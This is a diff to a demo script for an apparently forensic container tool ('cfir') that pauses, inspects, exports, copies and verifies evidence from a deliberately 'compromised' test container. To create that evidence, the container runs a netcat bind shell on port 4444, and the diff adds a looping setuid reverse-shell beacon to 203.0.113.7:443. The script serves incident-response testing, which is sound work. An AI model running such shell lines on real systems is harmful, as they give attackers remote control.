@@ -10,6 +10,7 @@ here=$(cd "$(dirname "$0")" && pwd)
 name=cfir-demo
 bag=${DEMO_BAG:-$PWD/cfir-demo-bag}
 docker rm -f "$name" >/dev/null 2>&1 || true
+trap 'docker rm -f "$name" >/dev/null 2>&1' EXIT
 rm -rf "$bag"
 
 step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
@@ -23,6 +24,8 @@ docker run -d --name "$name" --label cfir-demo=1 \
 	"$TEST_IMAGE" sh -c '
 		mkdir /tmp/.x; cp /bin/busybox /tmp/.x/busybox
 		/tmp/.x/busybox nc -ll -p 4444 -e /bin/sh &
+		printf "#!/bin/sh\nwhile :; do nc 203.0.113.7 443 -e /bin/sh; sleep 60; done\n" >/tmp/.x/beacon.sh
+		chmod 4755 /tmp/.x/beacon.sh
 		sleep 1; rm -f /tmp/.x/busybox
 		echo "connecting to 203.0.113.7:443"; echo "stage 2 fetched" >&2
 		while sleep 5; do :; done' >/dev/null
@@ -33,6 +36,14 @@ step "cfir pause $name"
 
 step "cfir inspect -o $bag $name"
 "$CFIR" --format text inspect -o "$bag" "$name"
+
+step "cfir export -o $bag $name"
+"$CFIR" --format text export -o "$bag" "$name"
+echo "   what the index flags:"
+jq -c 'select(.flags | length > 0) | {path, flags, magic}' "$bag"/data/*/export/rootfs.index.jsonl | sed 's/^/   /'
+
+step "cfir copy -o $bag $name:/tmp"
+"$CFIR" --format text copy -o "$bag" "$name:/tmp"
 
 step "cfir verify $bag"
 "$CFIR" --format text verify "$bag"
@@ -46,5 +57,4 @@ jq -c '{seq, action, status, artifacts: (.artifacts | length), prev: .prev[0:16]
 step "the container stays frozen for the next steps; cfir unpause $name thaws it"
 "$CFIR" --format text unpause -o "$bag" "$name"
 "$CFIR" --format text -q verify "$bag" && echo "bag still verifies after the unpause record"
-docker rm -f "$name" >/dev/null
 printf '\nThe evidence bag is in %s\n' "$bag"
